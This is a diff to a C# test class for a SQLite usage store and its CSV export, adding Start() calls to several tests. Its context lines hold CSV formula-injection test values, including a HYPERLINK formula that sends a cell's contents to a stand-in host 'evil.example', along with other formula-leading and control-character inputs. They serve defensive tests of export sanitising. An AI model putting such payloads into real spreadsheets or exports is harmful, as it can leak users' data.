@@ -16,6 +16,7 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
     {
         var path = _dir.File("purser.db");
         _store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
+        _store.Start();
 
         // Recorded out of time order on purpose; r-tie-1 and r-tie-2 share a timestamp.
         _store.Record(TestRecords.Make("r2", keyId: "team-a", modelAlias: "fast", at: T0.AddMinutes(2)));
@@ -91,6 +92,7 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
     {
         var path = _dir.File("csv.db");
         await using var store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
+        store.Start();
         store.Record(new UsageRecord
         {
             RequestId = "req-1",
@@ -143,6 +145,7 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
     {
         var path = _dir.File("formula.db");
         await using var store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
+        store.Start();
         store.Record(TestRecords.Make("f-1", modelAlias: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")") with { TaskScope = "+1+1", Degraded = "@SUM(A1)" });
         store.Record(TestRecords.Make("f-2", keyId: "-2+3", modelAlias: "\tcmd", at: T0.AddMinutes(1)) with { ErrorCode = "\r=1" });
         await store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);
@@ -160,6 +163,7 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
     {
         var path = _dir.File("hostile.db");
         await using var store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
+        store.Start();
 
         // Generated hostile names: formula leads, separators, quotes, line breaks and non-ASCII, in every position.
         const string Alphabet = "=+-@\t\r\n,\"'aZ9 é漢😀";
